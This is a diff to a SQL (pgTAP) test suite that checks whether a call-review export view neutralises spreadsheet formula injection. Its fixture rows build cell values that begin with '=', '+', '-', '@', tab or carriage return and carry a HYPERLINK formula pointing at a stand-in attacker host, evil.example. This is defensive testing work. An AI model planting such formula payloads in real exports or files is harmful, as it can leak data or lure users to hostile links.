@@ -12,6 +12,10 @@ select plan(19);
 create temp table dangerous (n int, lead text);
 insert into dangerous values (1, '='), (2, '+'), (3, '-'), (4, '@'), (5, E'\t'), (6, E'\r');
 grant select on dangerous to authenticated;
+-- Flags are limited to the contract's (migration 20261209000100), so no real row can
+-- carry a flag starting with '='. The quoting of flags_text is defence in depth: drop
+-- the check inside this rolled-back transaction to show it still holds.
+alter table public.calls drop constraint calls_flags_known;
 
 insert into public.calls
   (dealership_id, call_id, first_event_at, last_event_at, duration_sec, verdict, score, reasons, flags, analysis_model)
@@ -20,7 +24,7 @@ select 'honda-quincy', x.lead || 'HYPERLINK("http://evil.example/?' || x.n || '"
   from dangerous x
 union all
 select 'honda-quincy', 't32-plain', now(), now(), 0, 'bad', 0,
-       '{"customer waited; no callback = upset"}', '{no_resolution}', 'heuristic-v1';
+       '{"customer waited; no callback = upset"}', '{customer_upset}', 'heuristic-v1';
 
 insert into public.call_reviews (dealership_id, call_id, status, assignee_id, notes, flagged_at)
 select c.dealership_id, c.call_id, 'open'::public.review_status, :nora::uuid,
@@ -96,11 +100,11 @@ select results_eq(
 select results_eq(
   $$ select call_id, reasons_text, flags_text, analysis_model, score, duration_sec
        from public.calls_export where call_id = 't32-plain' $$,
-  $$ values ('t32-plain', 'customer waited; no callback = upset', 'no_resolution', 'heuristic-v1', 0::smallint, 0) $$,
+  $$ values ('t32-plain', 'customer waited; no callback = upset', 'customer_upset', 'heuristic-v1', 0::smallint, 0) $$,
   'Ordinary text is unchanged, and the numbers stay numbers'
 );
 select is(
-  (select count(*)::int from public.calls_export where dealership_id = 'honda-quincy' and verdict = 'bad' and flags && '{no_resolution}'),
+  (select count(*)::int from public.calls_export where dealership_id = 'honda-quincy' and verdict = 'bad' and flags && '{customer_upset}'),
   1,
   'The filter columns keep their raw values'
 );
